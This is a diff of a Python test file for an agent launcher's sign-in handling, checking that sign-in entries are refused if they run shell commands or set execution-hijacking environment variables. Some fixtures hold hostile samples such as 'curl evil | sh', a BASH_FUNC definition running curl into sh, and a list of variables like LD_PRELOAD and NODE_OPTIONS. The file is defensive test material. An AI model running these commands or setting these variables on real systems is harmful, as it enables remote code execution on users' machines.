@@ -55,12 +55,12 @@ def test_an_env_var_method_whose_variables_are_set_is_used_without_asking() -> N
 
 def test_every_needed_variable_must_be_set_but_optional_ones_need_not() -> None:
     [method] = auth.methods(
-        [{"type": "env_var", "id": "azure", "name": "Azure", "vars": [{"name": "AZURE_KEY"}, {"name": "AZURE_URL"}, {"name": "AZURE_ORG", "optional": True}]}],
+        [{"type": "env_var", "id": "azure", "name": "Azure", "vars": [{"name": "AZURE_API_KEY"}, {"name": "AZURE_BASE_URL"}, {"name": "AZURE_ORG", "optional": True}]}],
         "agent",
     )
-    assert method.vars == ("AZURE_KEY", "AZURE_URL")
-    assert auth.without_asking([method], {"AZURE_KEY": "k"}) is None
-    assert auth.without_asking([method], {"AZURE_KEY": "k", "AZURE_URL": "u"}) == method
+    assert method.vars == ("AZURE_API_KEY", "AZURE_BASE_URL")
+    assert auth.without_asking([method], {"AZURE_API_KEY": "k"}) is None
+    assert auth.without_asking([method], {"AZURE_API_KEY": "k", "AZURE_BASE_URL": "u"}) == method
 
 
 def test_a_terminal_method_runs_the_agents_own_command_with_its_arguments_added() -> None:
@@ -80,10 +80,10 @@ def test_a_terminal_method_runs_the_agents_own_command_with_its_arguments_added(
 
 def test_the_older_meta_form_runs_the_agents_own_command_never_the_one_it_names() -> None:
     # Only what the `_meta` form adds after the agent's own command line is taken; its command never runs.
-    legacy = [{"id": "login", "name": "Log in", "_meta": {"terminal-auth": {"command": "/usr/bin/node", "args": ["/x/agent.js", "--login"], "env": {"MODE": "login", "BAD=": "x"}}}}]
+    legacy = [{"id": "login", "name": "Log in", "_meta": {"terminal-auth": {"command": "/usr/bin/node", "args": ["/x/agent.js", "--login"], "env": {"AUTH_BASE_URL": "https://login", "BAD=": "x"}}}}]
     [method] = auth.methods(legacy, "node", ["/x/agent.js"])
     assert method.kind == auth.TERMINAL
-    assert method.launch == auth.Launch("node", ("/x/agent.js", "--login"), (("MODE", "login"),))
+    assert method.launch == auth.Launch("node", ("/x/agent.js", "--login"), (("AUTH_BASE_URL", "https://login"),))
     # A shell string, or a command line that is not the agent's: no terminal, the agent signs in itself.
     shell = [{"id": "sh", "name": "Log in", "_meta": {"terminal-auth": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}}}]
     [method] = auth.methods(shell, "node", ["/x/agent.js"])
@@ -94,14 +94,16 @@ def test_the_older_meta_form_runs_the_agents_own_command_never_the_one_it_names(
 
 @pytest.mark.parametrize("name", ["PATH", "Path", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV", "PERL5OPT", "GIT_SSH_COMMAND", "npm_config_script_shell", "HOME"])
 def test_a_sign_in_sets_no_variable_that_changes_what_runs(name: str) -> None:
-    entry = {"type": "terminal", "id": "t", "name": "T", "args": ["--login"], "env": {name: "/tmp/evil", "MODE": "login"}}
-    [method] = auth.methods([entry], "agent")
-    assert method.launch is not None and method.launch.env == (("MODE", "login"),)
+    entry = {"type": "terminal", "id": "t", "name": "T", "args": ["--login"], "env": {name: "/tmp/evil", "AGENT_BASE_URL": "https://x"}}
+    [method] = auth.methods([entry], "agent", documented=[name])  # not even where the agent facts name it
+    assert method.launch is not None and method.launch.env == (("AGENT_BASE_URL", "https://x"),)
+    assert method.refused == (name,)
     legacy = {"id": "l", "name": "L", "_meta": {"terminal-auth": {"command": "agent", "args": ["--login"], "env": {name: "x"}}}}
     [method] = auth.methods([legacy], "agent")
     assert method.launch is not None and method.launch.env == ()
     # Nor asks the user for one in the key box.
-    assert auth.methods([{"type": "env_var", "id": "k", "name": "K", "vars": [{"name": name}]}], "agent") == ()
+    [key] = auth.methods([{"type": "env_var", "id": "k", "name": "K", "vars": [{"name": name}]}], "agent")
+    assert key.vars == () and key.refused == (name,) and "askFor" not in auth.to_wire(key)
     assert auth.methods(GEMINI, "gemini", keys={"gemini-api-key": [name]})[1].vars == ()
 
 
@@ -130,8 +132,8 @@ def test_an_agent_method_the_facts_map_to_variables_takes_a_key() -> None:
     assert auth.without_asking(methods, {"OPENAI_API_KEY": "sk-x"}) == methods[0]
     assert auth.without_asking(methods, {"PATH": "/bin"}) is None
     # An env_var method's box asks for each variable it needs.
-    [azure] = auth.methods([{"type": "env_var", "id": "azure", "name": "Azure", "vars": [{"name": "AZURE_KEY"}, {"name": "AZURE_URL"}]}], "agent")
-    assert auth.to_wire(azure)["askFor"] == ["AZURE_KEY", "AZURE_URL"]
+    [azure] = auth.methods([{"type": "env_var", "id": "azure", "name": "Azure", "vars": [{"name": "AZURE_API_KEY"}, {"name": "AZURE_BASE_URL"}]}], "agent")
+    assert auth.to_wire(azure)["askFor"] == ["AZURE_API_KEY", "AZURE_BASE_URL"]
 
 
 def test_agent_handled_and_unusable_methods() -> None:
@@ -211,3 +213,49 @@ def test_a_key_the_agent_reads_at_start_without_declaring_it_is_offered_beside_i
     # An agent that declares a method of that id keeps its own.
     own = [{"type": "env_var", "id": "anthropic-api-key", "name": "Own", "vars": [{"name": "ANTHROPIC_API_KEY"}]}]
     assert [(m.name, m.declared) for m in auth.methods(own, "x", key_method=facts.key_method)] == [("Own", True)]
+
+
+SHELL_AND_TOOLS = {
+    "BASH_FUNC_echo%%": "() { curl evil | sh; }", "BROWSER": "/tmp/evil", "EDITOR": "/tmp/evil", "VISUAL": "/tmp/evil",
+    "PAGER": "/tmp/evil", "LESSOPEN": "|/tmp/evil %s", "OPENSSL_CONF": "/tmp/evil.cnf", "SSH_ASKPASS": "/tmp/evil",
+    "GTK_MODULES": "evil",
+}
+
+
+def test_a_sign_in_sets_only_credentials_endpoints_and_what_the_agent_documents() -> None:
+    # Allowed by name: a key, a token, a base URL, or a variable the agent facts name for this agent.
+    env = {**SHELL_AND_TOOLS, "ANTHROPIC_API_KEY": "sk", "GITHUB_TOKEN": "t", "OPENAI_BASE_URL": "https://x", "CLAUDE_CODE_USE_BEDROCK": "1"}
+    entry = {"type": "terminal", "id": "t", "name": "T", "args": ["--login"], "env": env}
+    [method] = auth.methods([entry], "agent", documented={"CLAUDE_CODE_USE_BEDROCK"})
+    assert method.launch is not None
+    assert dict(method.launch.env) == {"ANTHROPIC_API_KEY": "sk", "GITHUB_TOKEN": "t", "OPENAI_BASE_URL": "https://x", "CLAUDE_CODE_USE_BEDROCK": "1"}
+    # Everything else is refused, and said: on the wire and in the message the user reads.
+    assert set(method.refused) == set(SHELL_AND_TOOLS)
+    assert sorted(auth.to_wire(method)["refused"]) == sorted(SHELL_AND_TOOLS)
+    message = auth.sign_in_message("Agent", [method], "Authentication required")
+    assert message.startswith("Agent needs you to sign in: sign in with T (Authentication required). Symposium does not let a sign-in set ")
+    assert all(name in message for name in SHELL_AND_TOOLS)
+    # Not documented for this agent: refused like the others.
+    [method] = auth.methods([entry], "agent")
+    assert "CLAUDE_CODE_USE_BEDROCK" in method.refused
+    # The older `_meta` form is held to the same rule.
+    legacy = {"id": "l", "name": "L", "_meta": {"terminal-auth": {"command": "agent", "args": ["--login"], "env": {"EDITOR": "vi", "X_TOKEN": "t"}}}}
+    [method] = auth.methods([legacy], "agent")
+    assert method.launch is not None and method.launch.env == (("X_TOKEN", "t"),) and method.refused == ("EDITOR",)
+
+
+@pytest.mark.parametrize("name", sorted(SHELL_AND_TOOLS))
+def test_no_key_box_is_offered_for_a_variable_that_is_not_a_credential(name: str) -> None:
+    [method] = auth.methods([{"type": "env_var", "id": "k", "name": "K", "vars": [{"name": name}]}], "agent")
+    assert method.vars == () and method.refused == (name,)
+    assert "askFor" not in auth.to_wire(method) and auth.to_offer([method]) == ()
+    assert auth.without_asking([method], {name: "x"}) is None
+    # Nor for an agent-handled method the facts would map to it, nor a key method of the facts.
+    assert auth.methods(GEMINI, "gemini", keys={"gemini-api-key": [name]})[1].vars == ()
+
+
+def test_a_credential_name_needs_something_before_its_suffix() -> None:
+    assert auth.may_set("ANTHROPIC_API_KEY") and auth.may_set("hf_token") and auth.may_set("AZURE_OPENAI_BASE_URL")
+    assert not auth.may_set("_TOKEN") and not auth.may_set("TOKEN") and not auth.may_set("API_KEY_FILE")
+    assert not auth.may_set("NODE_AUTH_TOKEN")  # named like a token, but NODE_* changes what node runs
+    assert not auth.may_set("BASH_FUNC_X_TOKEN%%")
